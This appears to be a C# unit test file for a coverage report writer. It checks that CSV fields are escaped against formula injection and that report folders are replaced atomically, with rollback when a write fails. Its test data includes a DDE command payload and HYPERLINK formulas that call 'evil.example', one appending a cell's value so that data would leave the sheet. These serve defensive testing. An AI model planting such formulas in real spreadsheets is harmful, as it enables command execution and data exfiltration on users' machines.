using NhsCommunity.Coverage;
using NhsCommunity.Reports;
using NhsCommunity.Tests.Fixtures;

namespace NhsCommunity.Tests.Reports;

/// <summary>Reports that are always whole and safe: no data, a failure part-way, formulas in CSV cells.</summary>
[Trait("Category", "Unit")]
public sealed class ReportWriterTests : IDisposable
{
    private static readonly DateTime August = new(2024, 8, 1);

    private readonly TempDirectory _temp = new();

    public void Dispose() => _temp.Dispose();

    private static CoverageReport Report(params CoverageRow[] rows) => new()
    {
        Scope = new CoverageScope { From = new DateTime(2030, 1, 1), To = new DateTime(2030, 3, 1), TrustCodes = ["rxx"] },
        Database = "postgres@127.0.0.1:5432/nhs",
        GeneratedAt = new DateTimeOffset(2026, 11, 30, 12, 0, 0, TimeSpan.Zero),
        Coverage = rows,
        Findings = [],
        Checks = CoverageChecks.All.Where(c => !c.NeedsSource).ToArray(),
    };

    private static CoverageRow Row(string code, string name, DateTime period, int services) =>
        new() { TrustCode = code, TrustName = name, Period = Month.Of(period), HasData = services > 0, ServicesReported = services, TotalWaiting = services * 100L };

    /// <summary>The folders beside the target that are not the target: staging left behind.</summary>
    private string[] Leftovers(string target) =>
        Directory.GetFileSystemEntries(_temp.Path).Where(e => e != target).Select(Path.GetFileName).ToArray()!;

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-1+1", "'-1+1")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("  =1+1", "'  =1+1")]
    [InlineData("\uFF1D1+1", "'\uFF1D1+1")]
    [InlineData("\uFF0B1", "'\uFF0B1")]
    [InlineData("\uFF0D1", "'\uFF0D1")]
    [InlineData("\uFF20SUM(A1)", "'\uFF20SUM(A1)")]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"x\")", "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"")]
    [InlineData("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0")]
    [InlineData("-", "'-")]
    [InlineData("-12", "-12")]
    [InlineData("-0.5", "-0.5")]
    [InlineData("+3", "+3")]
    [InlineData("12", "12")]
    [InlineData("1e5", "1e5")]
    [InlineData("-2.5E-3", "-2.5E-3")]
    [InlineData("TRUST, THE", "\"TRUST, THE\"")]
    [InlineData("A = B", "A = B")]
    [InlineData("", "")]
    public void A_field_that_would_run_as_a_formula_is_text_and_a_number_stays_a_number(string value, string expected) =>
        Assert.Equal(expected, CsvText.Field(value));

    [Fact]
    public void A_trust_named_HYPERLINK_goes_into_the_matrix_as_text()
    {
        CoverageReport report = Report(
            Row("RXX", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", August, 3),
            Row("RYY", "-2+3", August, 0),
            Row("@SUM", "PLAIN TRUST", August, 1));

        CommunityReportWriter.Write(report, _temp.File("report"));

        Assert.Equal(
            "trust_code,trust_name,2024-08\r\n"
            + "'@SUM,PLAIN TRUST,1\r\n"
            + "RXX,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",3\r\n"
            + "RYY,'-2+3,0\r\n",
            File.ReadAllText(_temp.File("report/coverage_matrix.csv")));
    }

    [Fact]
    public void An_empty_scope_gives_a_whole_report_that_says_there_is_no_data()
    {
        string folder = _temp.File("report");

        IReadOnlyList<ReportFile> files = CommunityReportWriter.Write(Report(), folder);

        Assert.Equal([ReportFileKind.CoverageMatrix, ReportFileKind.DataQuality, ReportFileKind.ChecksSql, ReportFileKind.Html], files.Select(f => f.Kind));
        Assert.All(files, f => Assert.Equal(new FileInfo(f.Path).Length, f.Bytes));
        Assert.Equal("trust_code,trust_name\r\n", File.ReadAllText(Path.Combine(folder, "coverage_matrix.csv")));
        string md = File.ReadAllText(Path.Combine(folder, "data_quality_report.md"));
        Assert.Contains("**No data.** trust_metrics has no rows in this report's scope (data type 'monthly', 2030-01 to 2030-03, trusts RXX), so every table below is empty.", md, StringComparison.Ordinal);
        Assert.Contains("| Rows | 0 |", md, StringComparison.Ordinal);
        Assert.Contains("| Trust-months covered | 0.0 % |", md, StringComparison.Ordinal);
        string html = File.ReadAllText(Path.Combine(folder, "report.html"));
        Assert.Contains("<h2>No data</h2>", html, StringComparison.Ordinal);
        Assert.Contains("Coverage heat map of 0 trusts over 0 months", html, StringComparison.Ordinal);
        Assert.EndsWith("</html>\n", html, StringComparison.Ordinal);
        Assert.Contains("-- Coverage: one row per trust and month.", File.ReadAllText(Path.Combine(folder, "checks.sql")), StringComparison.Ordinal);
        Assert.Empty(Leftovers(folder));
    }

    private static readonly string[] Names = ["coverage_matrix.csv", "data_quality_report.md", "checks.sql", "report.html"];

    /// <summary>The four files with stand-in content; the one at <paramref name="failAt"/> throws while it is made.</summary>
    private static (ReportFileKind, string, string, Func<string>)[] Files(string content, int failAt = -1) =>
        [.. Names.Select((name, i) =>
            ((ReportFileKind)i, name, "file " + i, (Func<string>)(() => i == failAt ? throw new InvalidOperationException("injected failure") : content + " " + name)))];

    private static Dictionary<string, string> Contents(string folder) =>
        Directory.GetFiles(folder).ToDictionary(f => Path.GetFileName(f), File.ReadAllText);

    [Fact]
    public void A_failure_while_the_files_are_made_leaves_the_previous_report_whole()
    {
        string folder = _temp.File("report");
        CommunityReportWriter.Write(Files("old"), folder);
        File.WriteAllText(Path.Combine(folder, "notes.txt"), "mine");

        var e = Assert.Throws<InvalidOperationException>(() => CommunityReportWriter.Write(Files("new", failAt: 2), folder));

        Assert.Equal("injected failure", e.Message);
        Assert.Equal(
            new Dictionary<string, string>
            {
                ["coverage_matrix.csv"] = "old coverage_matrix.csv",
                ["data_quality_report.md"] = "old data_quality_report.md",
                ["checks.sql"] = "old checks.sql",
                ["report.html"] = "old report.html",
                ["notes.txt"] = "mine",
            },
            Contents(folder));
        Assert.Empty(Leftovers(folder));
    }

    [Fact]
    public void A_failure_on_a_new_folder_leaves_no_folder()
    {
        string folder = _temp.File("new/report");

        Assert.Throws<InvalidOperationException>(() => CommunityReportWriter.Write(Files("new", failAt: 3), folder));

        Assert.False(Directory.Exists(folder));
        Assert.Empty(Directory.GetFileSystemEntries(_temp.File("new")));
    }

    [Fact]
    public void A_failure_while_the_files_are_moved_in_puts_the_previous_files_back()
    {
        string folder = _temp.File("report");
        CommunityReportWriter.Write(Files("old").Take(3), folder);

        // report.html cannot replace a folder of that name: the fourth move fails after three went in.
        Directory.CreateDirectory(Path.Combine(folder, "report.html"));
        Assert.ThrowsAny<IOException>(() => CommunityReportWriter.Write(Files("new"), folder));

        Assert.Equal(
            new Dictionary<string, string>
            {
                ["coverage_matrix.csv"] = "old coverage_matrix.csv",
                ["data_quality_report.md"] = "old data_quality_report.md",
                ["checks.sql"] = "old checks.sql",
            },
            Contents(folder));
        Assert.True(Directory.Exists(Path.Combine(folder, "report.html")));
        Assert.Empty(Leftovers(folder));
    }

    [Fact]
    public void A_second_report_replaces_the_first_and_keeps_other_files()
    {
        string folder = _temp.File("report");
        CommunityReportWriter.Write(Files("old"), folder);
        File.WriteAllText(Path.Combine(folder, "notes.txt"), "mine");

        IReadOnlyList<ReportFile> files = CommunityReportWriter.Write(Files("new"), folder);

        Assert.All(files, f => Assert.Equal("new " + f.Name, File.ReadAllText(f.Path)));
        Assert.Equal("mine", File.ReadAllText(Path.Combine(folder, "notes.txt")));
        Assert.Empty(Leftovers(folder));
    }

    [Fact]
    public void Declining_every_file_creates_nothing()
    {
        string folder = _temp.File("report");

        IReadOnlyList<ReportFile> files = CommunityReportWriter.Write(Report(), folder, (_, _) => false);

        Assert.All(files, f => Assert.False(f.Written));
        Assert.Empty(Directory.GetFileSystemEntries(_temp.Path));
    }

    [Fact]
    public void A_file_where_the_folder_should_be_is_refused_and_kept()
    {
        string file = _temp.File("report");
        File.WriteAllText(file, "not a folder");

        var e = Assert.Throws<IOException>(() => CommunityReportWriter.Write(Report(), file));

        Assert.Contains("is a file, not a folder", e.Message, StringComparison.Ordinal);
        Assert.Equal("not a folder", File.ReadAllText(file));
        Assert.Empty(Leftovers(file));
    }
}
